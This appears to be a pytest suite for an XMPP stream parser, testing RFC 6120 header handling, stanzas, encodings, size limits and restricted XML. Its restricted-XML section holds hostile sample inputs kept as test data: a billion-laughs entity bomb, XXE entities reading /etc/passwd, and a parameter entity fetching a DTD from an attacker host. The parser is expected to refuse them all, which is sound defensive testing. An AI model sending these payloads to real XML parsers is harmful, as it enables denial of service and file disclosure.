"""The restricted incremental parser for c2s streams (RFC 6120 §4, §11), fed bytes, no sockets."""

from __future__ import annotations

import itertools
import random
import time
import xml.etree.ElementTree as ET

import pytest

from server_ext.wire.xml_events import (
    ElementReceived,
    ParserEvent,
    StreamClosed,
    StreamOpened,
    StreamXMLError,
    XMLCondition,
)
from server_ext.wire.xmlparser import MAX_ATTRIBUTES, MAX_TAG_BYTES, StreamParser

XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
# The initial stream header of RFC 6120 §9.1.1, step 1.
HEADER = (
    b"<?xml version='1.0'?><stream:stream from='juliet@im.example.com' to='im.example.com' "
    b"version='1.0' xml:lang='en' xmlns='jabber:client' "
    b"xmlns:stream='http://etherx.jabber.org/streams'>"
)
# The message of RFC 6120 §9.1.4 (stanza exchange), with a XEP-0085 chat state added.
MESSAGE = (
    b"<message from='juliet@im.example.com/balcony' id='ju2ba41c' "
    b"to='romeo@example.net' type='chat' xml:lang='en'>"
    b"<body>Art thou not Romeo, and a Montague?</body>"
    b"<active xmlns='http://jabber.org/protocol/chatstates'/>"
    b"</message>"
)


def opened(max_stanza_bytes: int = 1024, max_depth: int = 32) -> StreamParser:
    parser = StreamParser(max_stanza_bytes=max_stanza_bytes, max_depth=max_depth)
    (event,) = parser.feed(HEADER)
    assert isinstance(event, StreamOpened)
    return parser


def error_of(parser: StreamParser, data: bytes) -> StreamXMLError:
    with pytest.raises(StreamXMLError) as info:
        parser.feed(data)
    return info.value


def condition_of(parser: StreamParser, data: bytes) -> XMLCondition:
    return error_of(parser, data).condition


def feed_bytewise(parser: StreamParser, data: bytes) -> list[ParserEvent]:
    events: list[ParserEvent] = []
    for index in range(len(data)):
        events.extend(parser.feed(data[index : index + 1]))
    return events


def only_element(events: list[ParserEvent]) -> ET.Element:
    (event,) = events
    assert isinstance(event, ElementReceived)
    return event.element


# --- the stream header ------------------------------------------------------------------------


def test_header_attributes_are_exposed_with_xml_lang_by_its_usual_name() -> None:
    """RFC 6120 §4.7: from, to, version and xml:lang reach the caller."""
    (event,) = StreamParser().feed(HEADER)
    assert isinstance(event, StreamOpened)
    assert dict(event.attributes) == {
        "from": "juliet@im.example.com",
        "to": "im.example.com",
        "version": "1.0",
        "xml:lang": "en",
    }
    assert event.content_namespace == "jabber:client"


def test_header_attributes_cannot_be_changed_by_the_receiver() -> None:
    (event,) = StreamParser().feed(HEADER)
    assert isinstance(event, StreamOpened)
    with pytest.raises(TypeError):
        event.attributes["to"] = "evil.example"  # type: ignore[index]


@pytest.mark.parametrize(
    "header",
    [
        b"<stream:stream to='im.example.com' xmlns='jabber:client' "
        b"xmlns:stream='http://etherx.jabber.org/streams'>",
        b"<stream:stream to='im.example.com' version='0.9' xmlns='jabber:client' "
        b"xmlns:stream='http://etherx.jabber.org/streams'>",
        b"<stream:stream to='im.example.com' version='2.0' xmlns='jabber:client' "
        b"xmlns:stream='http://etherx.jabber.org/streams'>",
    ],
)
def test_version_is_left_to_the_caller(header: bytes) -> None:
    """RFC 6120 §4.7.5: version negotiation is the stream's business, not the parser's."""
    (event,) = StreamParser().feed(header)
    assert isinstance(event, StreamOpened)
    assert event.attributes.get("version") in (None, "0.9", "2.0")


def test_the_xml_declaration_is_optional_and_may_name_utf8() -> None:
    """RFC 6120 §11.5: a declaration MAY be sent; §11.6: UTF-8 in any letter case."""
    body = HEADER.removeprefix(b"<?xml version='1.0'?>")
    assert isinstance(StreamParser().feed(body)[0], StreamOpened)
    declared = b"<?xml version='1.0' encoding='utf-8'?>" + body
    assert isinstance(StreamParser().feed(declared)[0], StreamOpened)


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    """RFC 6120 §11.6 requires UTF-8; XML 1.0 §4.3.3 lets UTF-8 start with a BOM."""
    (event,) = StreamParser().feed(b"\xef\xbb\xbf" + HEADER)
    assert isinstance(event, StreamOpened)


def test_another_prefix_for_the_streams_namespace_is_accepted() -> None:
    """RFC 6120 §4.8.5: only the expanded name matters; the 'stream' prefix is a convention."""
    parser = StreamParser()
    (event,) = parser.feed(
        b"<s:stream to='im.example.com' version='1.0' xmlns='jabber:client' "
        b"xmlns:s='http://etherx.jabber.org/streams'>"
    )
    assert isinstance(event, StreamOpened)
    assert parser.feed(b"</s:stream>") == [StreamClosed()]


@pytest.mark.parametrize(
    "header",
    [
        pytest.param(
            b"<stream:stream xmlns='jabber:server' "
            b"xmlns:stream='http://etherx.jabber.org/streams'>",
            id="server-to-server content namespace",
        ),
        pytest.param(
            b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams'>",
            id="no content namespace",
        ),
        pytest.param(
            b"<stream:stream xmlns='jabber:client' xmlns:stream='urn:wrong'>",
            id="wrong streams namespace",
        ),
        pytest.param(b"<stream xmlns='jabber:client'>", id="root in the content namespace"),
        pytest.param(
            b"<stream xmlns='http://etherx.jabber.org/streams'>",
            id="content namespace is the streams namespace",
        ),
        pytest.param(
            b"<stream:features xmlns='jabber:client' "
            b"xmlns:stream='http://etherx.jabber.org/streams'>",
            id="wrong root name",
        ),
        pytest.param(b"<message xmlns='jabber:client'/>", id="a stanza before any header"),
    ],
)
def test_wrong_namespaces_are_invalid_namespace(header: bytes) -> None:
    """RFC 6120 §4.9.3.10: a c2s root is <stream> in the streams namespace, in jabber:client."""
    assert condition_of(StreamParser(), header) is XMLCondition.INVALID_NAMESPACE


def test_an_unbound_prefix_is_not_well_formed() -> None:
    """RFC 6120 §4.9.3.13: XML that breaks the Namespaces in XML rules is not well-formed."""
    header = b"<stream:stream xmlns='jabber:client'>"
    assert condition_of(StreamParser(), header) is XMLCondition.NOT_WELL_FORMED


def test_an_oversized_header_is_refused_while_it_arrives() -> None:
    """RFC 6120 §13.12 (denial of service): the header counts towards the size cap."""
    parser = StreamParser(max_stanza_bytes=1024)
    parser.feed(b"<stream:stream xmlns='jabber:client' ")
    condition = None
    fed = 0
    while condition is None and fed < 100_000:
        try:
            parser.feed(b"a" * 10 + b"='b' ")
        except StreamXMLError as exc:
            condition = exc.condition
        fed += 16
    assert condition is XMLCondition.POLICY_VIOLATION
    assert fed <= 1100


# --- stanzas ----------------------------------------------------------------------------------


def test_stanzas_arrive_whole_with_clark_names() -> None:
    """RFC 6120 §4.8.2/§4.8.3: stanzas are in jabber:client, payloads in their own namespaces."""
    message = only_element(opened().feed(MESSAGE))
    assert message.tag == "{jabber:client}message"
    assert message.attrib == {
        "from": "juliet@im.example.com/balcony",
        "id": "ju2ba41c",
        "to": "romeo@example.net",
        "type": "chat",
        XML_LANG: "en",
    }
    body = message.find("{jabber:client}body")
    assert body is not None and body.text == "Art thou not Romeo, and a Montague?"
    active = message.find("{http://jabber.org/protocol/chatstates}active")
    assert active is not None and active.text is None and len(active) == 0


def test_nonzas_arrive_like_stanzas() -> None:
    """RFC 6120 §5.4.2.1: <starttls/> is a top-level child in its own namespace."""
    element = only_element(opened().feed(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"))
    assert element.tag == "{urn:ietf:params:xml:ns:xmpp-tls}starttls"


def test_prefixed_children_and_attributes_get_clark_names() -> None:
    """Namespaces in XML §6: a prefix is only a spelling of the namespace name."""
    element = only_element(
        opened().feed(
            b"<iq type='get' id='1' xmlns:p='urn:xmpp:ping' xmlns:x='urn:example:attr'>"
            b"<p:ping x:flag='on'/></iq>"
        )
    )
    ping = element[0]
    assert ping.tag == "{urn:xmpp:ping}ping"
    assert ping.attrib == {"{urn:example:attr}flag": "on"}


@pytest.mark.parametrize("bytewise", [False, True], ids=["one read", "byte by byte"])
def test_mixed_content_keeps_text_and_tails(bytewise: bool) -> None:
    """XHTML-IM bodies (XEP-0071) mix text and elements; nothing may be lost or misplaced."""
    data = (
        b"<message><html xmlns='http://jabber.org/protocol/xhtml-im'>"
        b"<body xmlns='http://www.w3.org/1999/xhtml'>one <em>two</em> three<br/>four</body>"
        b"</html></message>"
    )
    parser = opened()
    body = only_element(feed_bytewise(parser, data) if bytewise else parser.feed(data))[0][0]
    assert body.tag == "{http://www.w3.org/1999/xhtml}body"
    assert body.text == "one "
    assert body[0].text == "two"
    assert body[0].tail == " three"
    assert body[1].text is None
    assert body[1].tail == "four"


def test_predefined_entities_character_references_and_cdata_are_allowed() -> None:
    """RFC 6120 §11.1 keeps the five predefined entities and character references."""
    body = only_element(
        opened().feed(
            b"<message><body a='&quot;&apos;'>&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;"
            b"<![CDATA[<not a tag>]]></body></message>"
        )
    )[0]
    assert body.text == "<>&\"'A\U0001f600<not a tag>"
    assert body.get("a") == "\"'"


def test_several_stanzas_in_one_feed_come_out_in_order_and_keepalives_are_silent() -> None:
    """RFC 6120 §11.7: whitespace between stanzas is a keepalive, not an event."""
    parser = opened()
    events = parser.feed(b"<presence/> \n <iq id='1'/>\t<message id='2'/>  ")
    assert [type(e) for e in events] == [ElementReceived] * 3
    tags = [e.element.tag for e in events if isinstance(e, ElementReceived)]
    assert tags == ["{jabber:client}presence", "{jabber:client}iq", "{jabber:client}message"]
    assert parser.feed(b" ") == []


def test_the_closing_tag_ends_the_stream() -> None:
    """RFC 6120 §4.4: the peer closes its stream with </stream:stream>."""
    parser = opened()
    events = parser.feed(b"<presence type='unavailable'/></stream:stream>")
    assert isinstance(events[0], ElementReceived)
    assert events[1] == StreamClosed()
    assert condition_of(parser, b"<message/>") is XMLCondition.NOT_WELL_FORMED


def test_a_whole_stream_fed_one_byte_at_a_time() -> None:
    """TCP may split anywhere (RFC 6120 §4.2); each event comes with the byte completing it."""
    data = HEADER + MESSAGE + b" <presence/></stream:stream>"
    parser = StreamParser()
    arrivals: list[tuple[int, ParserEvent]] = []
    for index in range(len(data)):
        arrivals.extend((index, event) for event in parser.feed(data[index : index + 1]))
    assert [type(event) for _, event in arrivals] == [
        StreamOpened,
        ElementReceived,
        ElementReceived,
        StreamClosed,
    ]
    # Nothing waits for more input: each event arrives with its closing ">".
    assert [index for index, _ in arrivals] == [
        len(HEADER) - 1,
        len(HEADER) + len(MESSAGE) - 1,
        len(HEADER) + len(MESSAGE) + len(b" <presence/>") - 1,
        len(data) - 1,
    ]
    message = arrivals[1][1]
    assert isinstance(message, ElementReceived)
    assert message.element.get(XML_LANG) == "en"
    assert message.element[0].text == "Art thou not Romeo, and a Montague?"


def test_any_split_of_a_stream_gives_the_same_events() -> None:
    """TCP may split anywhere (RFC 6120 §4.2): 300 seeded random splittings, one result."""
    data = (
        HEADER
        + MESSAGE
        + b" <iq type='get' id='"
        + b"i" * 3000
        + b"'><query xmlns='jabber:iq:roster'/></iq>\n"
        + "<message><body>grüß &amp; 🙂<![CDATA[<x>]]></body></message>".encode()
        + b"</stream:stream>"
    )

    def summary(events: list[ParserEvent]) -> list[object]:
        return [
            ET.tostring(event.element) if isinstance(event, ElementReceived) else event
            for event in events
        ]

    expected = summary(StreamParser().feed(data))
    assert len(expected) == 5
    rng = random.Random(6120)
    for _ in range(300):
        parser = StreamParser(max_stanza_bytes=8192)
        cuts = [0, *sorted(rng.sample(range(1, len(data)), rng.randint(1, 40))), len(data)]
        events: list[ParserEvent] = []
        for start, end in itertools.pairwise(cuts):
            events.extend(parser.feed(data[start:end]))
        assert summary(events) == expected, cuts


def test_multibyte_utf8_split_across_feeds() -> None:
    """RFC 6120 §11.6: UTF-8; a character cut by a read boundary is still one character."""
    parser = opened()
    data = "<message><body>grüß 🙂 日本</body></message>".encode()
    assert only_element(feed_bytewise(parser, data))[0].text == "grüß 🙂 日本"


@pytest.mark.parametrize(
    "bad",
    [
        pytest.param(b"\xff", id="never valid in UTF-8"),
        pytest.param(b"\xc3\x28", id="broken two-byte sequence"),
        pytest.param(b"\xc0\xaf", id="overlong slash"),
        pytest.param(b"\xed\xa0\x80", id="encoded surrogate"),
        pytest.param(b"\xf4\x90\x80\x80", id="beyond U+10FFFF"),
        pytest.param(b"\xef\xbf\xbe", id="U+FFFE"),
        pytest.param(b"\x01", id="control character"),
        pytest.param(b"&#0;", id="reference to NUL"),
        pytest.param(b"&#xD800;", id="reference to a surrogate"),
    ],
)
def test_bad_characters_split_across_feeds_are_not_well_formed(bad: bytes) -> None:
    """RFC 6120 §11.6 and XML 1.0 §2.2, with every byte in a feed of its own."""
    parser = opened()
    data = b"<message><body>a" + bad + b"b</body></message>"
    with pytest.raises(StreamXMLError) as info:
        feed_bytewise(parser, data)
    assert info.value.condition is XMLCondition.NOT_WELL_FORMED


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(b"<a></b>", id="mismatched tags"),
        pytest.param(b"<a b='1' b='2'/>", id="duplicate attribute"),
        pytest.param(b"<a b=1/>", id="unquoted attribute"),
        pytest.param(b"<1a/>", id="bad name"),
        pytest.param(b"<?xml version='1.0'?>", id="a second XML declaration"),
    ],
)
def test_broken_xml_is_not_well_formed(payload: bytes) -> None:
    """RFC 6120 §4.9.3.13."""
    assert condition_of(opened(), payload) is XMLCondition.NOT_WELL_FORMED


# --- restricted XML (RFC 6120 §11.1) ----------------------------------------------------------

BILLION_LAUGHS = (
    b"<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>"
    + b"".join(
        b"<!ENTITY lol%d '%s'>"
        % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)


def test_billion_laughs_stops_at_the_doctype() -> None:
    """RFC 6120 §11.1: no DTD; the internal subset is never read, so nothing is expanded."""
    start = time.perf_counter()
    error = error_of(StreamParser(), BILLION_LAUGHS)
    assert error.condition is XMLCondition.RESTRICTED_XML
    assert time.perf_counter() - start < 0.5


def test_the_doctype_is_refused_before_its_internal_subset_arrives() -> None:
    """RFC 6120 §11.1: the refusal needs only '<!DOCTYPE name [', not the entity declarations."""
    prefix = BILLION_LAUGHS[: BILLION_LAUGHS.index(b"[") + 1]
    assert condition_of(StreamParser(), prefix) is XMLCondition.RESTRICTED_XML


@pytest.mark.parametrize(
    "prolog",
    [
        pytest.param(b"<!DOCTYPE stream>", id="bare doctype"),
        pytest.param(b"<!DOCTYPE x SYSTEM 'file:///etc/passwd'>", id="external DTD"),
        pytest.param(
            b"<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>", id="external entity"
        ),
        pytest.param(
            b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]>",
            id="parameter entity",
        ),
        pytest.param(b"<!ENTITY a 'b'>", id="entity declaration without doctype"),
        pytest.param(b"<!ELEMENT a ANY>", id="element declaration without doctype"),
    ],
)
def test_dtds_and_entity_declarations_before_the_header(prolog: bytes) -> None:
    """RFC 6120 §11.1: restricted-xml, and the stream header is never reached."""
    parser = StreamParser()
    data = b"<?xml version='1.0'?>" + prolog + HEADER.removeprefix(b"<?xml version='1.0'?>")
    assert condition_of(parser, data) is XMLCondition.RESTRICTED_XML


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(b"<!ENTITY a 'b'>", id="entity declaration between stanzas"),
        pytest.param(b"<message><!ENTITY a 'b'></message>", id="entity declaration in a stanza"),
        pytest.param(b"<!DOCTYPE x>", id="doctype inside the stream"),
        pytest.param(b"<message><!ATTLIST a b CDATA 'c'></message>", id="attribute list"),
        pytest.param(b"<!-- hi -->", id="comment between stanzas"),
        pytest.param(b"<message><!-- hi --></message>", id="comment in a stanza"),
        pytest.param(b"<?php echo 1; ?>", id="processing instruction between stanzas"),
        pytest.param(b"<message><?pi x?></message>", id="processing instruction in a stanza"),
        pytest.param(b"<message>&custom;</message>", id="undeclared entity in text"),
        pytest.param(b"<message to='&custom;'/>", id="undeclared entity in an attribute"),
    ],
)
def test_restricted_xml_inside_the_stream(payload: bytes) -> None:
    """RFC 6120 §11.1 and §4.9.3.18."""
    assert condition_of(opened(), payload) is XMLCondition.RESTRICTED_XML


@pytest.mark.parametrize(
    "prolog",
    [pytest.param(b"<!-- hi -->", id="comment"), pytest.param(b"<?php x ?>", id="pi")],
)
def test_comments_and_pis_before_the_header(prolog: bytes) -> None:
    """RFC 6120 §11.1: only the XML declaration itself may precede the stream header."""
    data = b"<?xml version='1.0'?>" + prolog + HEADER.removeprefix(b"<?xml version='1.0'?>")
    assert condition_of(StreamParser(), data) is XMLCondition.RESTRICTED_XML


def test_an_entity_declaration_split_after_the_bang_is_still_restricted() -> None:
    """RFC 6120 §11.1, with the '<!' and the 'ENTITY' in different reads."""
    parser = opened()
    parser.feed(b"<presence/><!")
    assert condition_of(parser, b"ENTITY a 'b'>") is XMLCondition.RESTRICTED_XML


def test_an_external_entity_reference_reveals_nothing() -> None:
    """RFC 6120 §11.1: an XXE attempt is refused; the error text names no input."""
    data = (
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY secret SYSTEM 'file:///etc/passwd'>]>"
        + HEADER.removeprefix(b"<?xml version='1.0'?>")
        + b"<message><body>&secret;</body></message>"
    )
    error = error_of(StreamParser(), data)
    assert error.condition is XMLCondition.RESTRICTED_XML
    assert "secret" not in error.text and "passwd" not in error.text


def test_error_texts_never_echo_peer_input() -> None:
    """RFC 6120 §4.9.2: the text goes back to the peer, so it must not carry its data."""
    for data in (b"<message>&peerinput;</message>", b"<peerinput></other>"):
        assert "peerinput" not in error_of(opened(), data).text


# --- encodings (RFC 6120 §11.6) ---------------------------------------------------------------


@pytest.mark.parametrize("encoding", [b"ISO-8859-1", b"UTF-16", b"US-ASCII", b"utf8"])
def test_a_declared_encoding_other_than_utf8_is_unsupported(encoding: bytes) -> None:
    """RFC 6120 §11.6 and §4.9.3.22."""
    data = b"<?xml version='1.0' encoding='" + encoding + b"'?>"
    assert condition_of(StreamParser(), data) is XMLCondition.UNSUPPORTED_ENCODING


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_stream_is_unsupported_encoding(codec: str) -> None:
    """RFC 6120 §11.6: UTF-16 (with or without a byte order mark) is not UTF-8."""
    data = HEADER.decode().removeprefix("<?xml version='1.0'?>").encode(codec)
    assert condition_of(StreamParser(), data) is XMLCondition.UNSUPPORTED_ENCODING


def test_utf16_is_recognised_even_when_its_first_byte_arrives_alone() -> None:
    """RFC 6120 §11.6: a one-byte first read must not let expat settle on UTF-16."""
    parser = StreamParser()
    data = HEADER.decode().encode("utf-16-le")
    assert parser.feed(data[:1]) == []
    assert condition_of(parser, data[1:]) is XMLCondition.UNSUPPORTED_ENCODING


# --- what arrives on the wrong port -----------------------------------------------------------

# The first bytes of a TLS 1.2/1.3 ClientHello record (RFC 8446 §5.1: content type 22, legacy
# record version 0x0301, length; then handshake type 1 and its length).
CLIENT_HELLO = bytes.fromhex("16030100f8010000f40303") + bytes(32)


def test_a_tls_client_hello_on_the_starttls_port_is_not_well_formed() -> None:
    """RFC 6120 §4.9.3.13: a client that tries direct TLS (XEP-0368) on the STARTTLS port."""
    assert condition_of(StreamParser(), CLIENT_HELLO) is XMLCondition.NOT_WELL_FORMED


def test_the_client_hello_fails_on_its_first_byte() -> None:
    """No buffering waits for more of a record that can never become XML."""
    assert condition_of(StreamParser(), CLIENT_HELLO[:1]) is XMLCondition.NOT_WELL_FORMED


def test_an_http_request_is_not_well_formed() -> None:
    """RFC 6120 §4.9.3.13: a browser or scanner on the XMPP port."""
    data = b"GET / HTTP/1.1\r\nHost: im.example.com\r\n\r\n"
    assert condition_of(StreamParser(), data) is XMLCondition.NOT_WELL_FORMED


# --- limits -----------------------------------------------------------------------------------


def test_a_stanza_that_never_ends_is_refused_during_feeding() -> None:
    """RFC 6120 §13.12: the cap fires once the open stanza passes it, not when it ends."""
    parser = opened(max_stanza_bytes=4096)
    parser.feed(b"<message><body>")
    fed = 0
    condition = None
    while condition is None and fed < 1_000_000:
        try:
            parser.feed(b"x" * 100)
        except StreamXMLError as exc:
            condition = exc.condition
        fed += 100
    assert condition is XMLCondition.POLICY_VIOLATION
    assert fed <= 4096 + 100


def test_one_huge_write_is_refused_before_expat_reaches_its_end() -> None:
    """RFC 6120 §13.12: a 20 MB write stops at the cap, not after expat has read all of it.

    The write ends in a byte that is never valid UTF-8; had the whole write been parsed before
    the cap was checked, the error would be not-well-formed instead.
    """
    parser = opened(max_stanza_bytes=65536)
    data = b"<message><body>" + b"x" * 20_000_000 + b"\xff"
    assert condition_of(parser, data) is XMLCondition.POLICY_VIOLATION


def test_many_small_stanzas_and_keepalives_never_add_up_to_the_cap() -> None:
    """The cap is per top-level element (RFC 6120 §13.12), not per connection."""
    parser = opened(max_stanza_bytes=1024)
    events = parser.feed(b"<presence/>" * 1000 + b" " * 3000)
    assert len(events) == 1000
    for _ in range(3000):
        assert parser.feed(b" ") == []
    assert len(parser.feed(b"<presence/>")) == 1


def test_the_cap_counts_the_stanza_itself() -> None:
    """A stanza just under the cap passes in one piece or many; one well over it does not."""
    cap = 1024
    skeleton = b"<message><body></body></message>"
    fits = skeleton.replace(b"<body>", b"<body>" + b"x" * (cap - len(skeleton)))
    assert len(fits) == cap
    assert len(opened(cap).feed(fits)) == 1
    parser = opened(cap)
    assert sum(len(parser.feed(fits[i : i + 7])) for i in range(0, len(fits), 7)) == 1
    too_big = skeleton.replace(b"<body>", b"<body>" + b"x" * cap)
    assert condition_of(opened(cap), too_big) is XMLCondition.POLICY_VIOLATION


def test_a_long_tag_is_refused_while_it_arrives() -> None:
    """expat rescans an unfinished tag on every read, so a tag has its own, smaller cap."""
    parser = opened(max_stanza_bytes=1_000_000)
    parser.feed(b"<message to='")
    fed = 0
    condition = None
    while condition is None and fed < 1_000_000:
        try:
            parser.feed(b"a" * 512)
        except StreamXMLError as exc:
            condition = exc.condition
        fed += 512
    assert condition is XMLCondition.POLICY_VIOLATION
    assert fed <= MAX_TAG_BYTES + 512


def test_a_long_tag_trickled_in_small_reads_still_arrives_whole() -> None:
    """A tag of several KB (two maximal JIDs, RFC 7622 §3.1) may come a few bytes at a time."""
    to = "a" * 1023 + "@" + "b" * 1023 + "/" + "c" * 1023
    data = f"<message to='{to}' from='{to}' id='x>y' a='&gt;'><body>hi</body></message>".encode()
    parser = opened(max_stanza_bytes=65536)
    events: list[ParserEvent] = []
    for index in range(0, len(data), 3):
        events.extend(parser.feed(data[index : index + 3]))
    element = only_element(events)
    assert element.get("to") == to and element.get("from") == to
    assert element.get("id") == "x>y" and element.get("a") == ">"


def test_nesting_depth_cap() -> None:
    """RFC 6120 §13.12: a stanza may nest max_depth levels, counting itself as the first."""
    parser = opened(max_depth=4)
    events = parser.feed(b"<iq><a><b><c/></b></a></iq>")
    assert len(events) == 1
    assert condition_of(parser, b"<iq><a><b><c><d/></c></b></a></iq>") is (
        XMLCondition.POLICY_VIOLATION
    )


def test_attribute_count_cap() -> None:
    """RFC 6120 §13.12: an element may carry at most MAX_ATTRIBUTES attributes."""

    def element(count: int) -> bytes:
        return b"<presence " + b" ".join(b"a%d='1'" % i for i in range(count)) + b"/>"

    assert len(opened(65536).feed(element(MAX_ATTRIBUTES))) == 1
    assert condition_of(opened(65536), element(MAX_ATTRIBUTES + 1)) is (
        XMLCondition.POLICY_VIOLATION
    )


def test_the_limits_must_be_positive() -> None:
    with pytest.raises(ValueError, match="positive"):
        StreamParser(max_stanza_bytes=0)
    with pytest.raises(ValueError, match="positive"):
        StreamParser(max_depth=0)


# --- after an error, and reset() -------------------------------------------------------------


def test_the_error_sticks() -> None:
    """Like h11: a parser that has failed refuses any further use with the same error."""
    parser = opened()
    first = error_of(parser, b"<!-- x -->")
    assert error_of(parser, b"<presence/>") is first
    with pytest.raises(StreamXMLError) as info:
        parser.reset()
    assert info.value is first


def test_reset_starts_a_new_stream_after_starttls() -> None:
    """RFC 6120 §5.4.3.3: after TLS the client sends a new header, XML declaration included."""
    parser = opened()
    element = only_element(parser.feed(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"))
    assert element.tag == "{urn:ietf:params:xml:ns:xmpp-tls}starttls"
    parser.reset()
    events = parser.feed(HEADER + b"<presence/>")
    assert isinstance(events[0], StreamOpened)
    assert isinstance(events[1], ElementReceived)


def test_reset_drops_whatever_the_old_stream_left_unfinished() -> None:
    """RFC 6120 §6.4.6: after SASL success the old stream's bytes are gone, even half a tag."""
    parser = opened()
    parser.feed(b"<message><body>half")
    parser.reset()
    (event,) = parser.feed(HEADER)
    assert isinstance(event, StreamOpened)


def test_after_reset_the_new_stream_needs_its_own_header() -> None:
    """RFC 6120 §4.3.3: a stanza where the new header belongs is no stream at all."""
    parser = opened()
    parser.reset()
    assert condition_of(parser, b"<presence/>") is XMLCondition.INVALID_NAMESPACE
